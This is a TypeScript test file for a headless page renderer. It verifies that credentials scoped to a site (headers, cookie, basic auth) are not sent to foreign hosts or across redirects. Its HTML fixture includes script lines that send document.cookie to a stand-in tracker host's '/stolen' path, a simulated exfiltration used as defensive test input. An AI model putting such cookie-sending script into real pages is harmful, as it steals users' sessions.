import type { IncomingMessage } from 'node:http'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { htmlOf, type Rendering, type Site, startRendering, startSite } from '#test/support/rendering.ts'
import { type Access, NO_ACCESS } from './access.ts'

const OWN = 'shop.example.com'
const APEX = 'example.com'
const FOREIGN = 'tracker.example.net'

const ACCESS: Access = {
  ...NO_ACCESS,
  hosts: [OWN, '*.cdn.example.com'],
  headers: { 'X-Token': 'header-value-1' },
  cookies: [{ name: 'sid', value: 'cookie-value-1' }],
  basicAuth: { username: 'ann', password: 'password-value-1' },
  userAgent: 'Agent-value/1',
  acceptLanguage: 'fr-value-1',
}

/** What each host was sent, by host and path. */
let seen: Map<string, IncomingMessage & { sent: string }>
let site: Site
let rendering: Rendering

beforeAll(async () => {
  const note = (request: IncomingMessage, sent = '') => {
    const host = (request.headers.host ?? '').split(':')[0]
    seen.set(`${host}${request.url}`, Object.assign(request, { sent }))
  }
  const answering =
    (html: (port: number) => string) => (request: IncomingMessage, response: import('node:http').ServerResponse) => {
      let sent = ''
      request.on('data', (chunk: Buffer) => {
        sent += chunk
      })
      request.on('end', () => {
        note(request, sent)
        response
          .writeHead(200, { 'content-type': 'text/html', 'access-control-allow-origin': '*' })
          .end(html(site.port))
      })
    }
  seen = new Map()
  const redirecting =
    (to: (port: number) => string) => (request: IncomingMessage, response: import('node:http').ServerResponse) => {
      note(request)
      response.writeHead(302, { location: to(site.port), 'access-control-allow-origin': '*' }).end()
    }
  site = await startSite({
    '/page': answering(
      (port) => `<!doctype html><body><p id=here>Shown</p>
        <script src="http://${FOREIGN}:${port}/script"></script>
        <iframe src="http://${FOREIGN}:${port}/frame"></iframe>
        <script>
          const done = (name) => document.body.insertAdjacentHTML('beforeend', '<i>' + name + '</i>')
          const all = [
            fetch('/own'), fetch('/away'),
            fetch('http://${FOREIGN}:${port}/fetch', { method: 'POST', body: 'plain' }),
            fetch('http://${FOREIGN}:${port}/stolen', { method: 'POST', body: document.cookie }),
            fetch('http://${FOREIGN}:${port}/stolen?c=' + encodeURIComponent(document.cookie)),
            fetch('http://img.cdn.example.com:${port}/below'), fetch('http://${APEX}:${port}/apex'),
          ]
          Promise.allSettled(all).then(() => done('all'))
        </script>`,
    ),
    '/script': answering(() => ''),
    '/frame': answering(() => 'frame'),
    '/own': answering(() => 'own'),
    '/fetch': answering(() => 'fetched'),
    '/stolen': answering(() => 'stolen'),
    '/below': answering(() => 'below'),
    '/apex': answering(() => 'apex'),
    '/away': redirecting((port) => `http://${FOREIGN}:${port}/landed`),
    '/landed': answering(() => 'landed'),
    '/leads-away': redirecting((port) => `http://${FOREIGN}:${port}/landed?whole`),
  })
  rendering = await startRendering({ sites: [site], names: [OWN, APEX, FOREIGN, 'img.cdn.example.com'] })
})
afterAll(async () => {
  await rendering[Symbol.asyncDispose]()
  await site[Symbol.asyncDispose]()
})

function headersAt(place: string): Record<string, string> {
  return (seen.get(place)?.headers ?? {}) as Record<string, string>
}

test('an access goes along with the requests of a page to its hosts, and to no other host', async () => {
  const outcome = await rendering.render({ url: `http://${OWN}:${site.port}/page`, waitFor: ['i'], access: ACCESS })

  expect(htmlOf(outcome)).toContain('<i>all</i>')
  for (const place of [`${OWN}/page`, `${OWN}/own`, `${OWN}/away`, 'img.cdn.example.com/below']) {
    expect([place, headersAt(place)]).toEqual([
      place,
      expect.objectContaining({
        'x-token': 'header-value-1',
        authorization: `Basic ${Buffer.from('ann:password-value-1').toString('base64')}`,
        'user-agent': 'Agent-value/1',
        'accept-language': 'fr-value-1',
      }),
    ])
  }
  expect(headersAt(`${OWN}/page`).cookie).toBe('sid=cookie-value-1')
  const others = [...seen].filter(([place]) => place.startsWith(FOREIGN) || place.startsWith(APEX))
  expect(others.map(([place]) => place).sort()).toEqual([
    `${APEX}/apex`,
    `${FOREIGN}/fetch`,
    `${FOREIGN}/frame`,
    `${FOREIGN}/landed`,
    `${FOREIGN}/script`,
  ])
  for (const [place, { headers, sent }] of others)
    expect(`${place} ${JSON.stringify(headers)} ${sent}`).not.toMatch(/value-1|value\/1|YW5uO/)
})

test('nothing of an access follows the page itself to another host', async () => {
  const url = `http://${OWN}:${site.port}/leads-away`
  const outcome = await rendering.render({ url, waitFor: [], access: ACCESS })

  expect(htmlOf(outcome)).toContain('landed')
  expect(headersAt(`${OWN}/leads-away`)['x-token']).toBe('header-value-1')
  expect(JSON.stringify(headersAt(`${FOREIGN}/landed?whole`))).not.toMatch(/value-1|value\/1/)
})
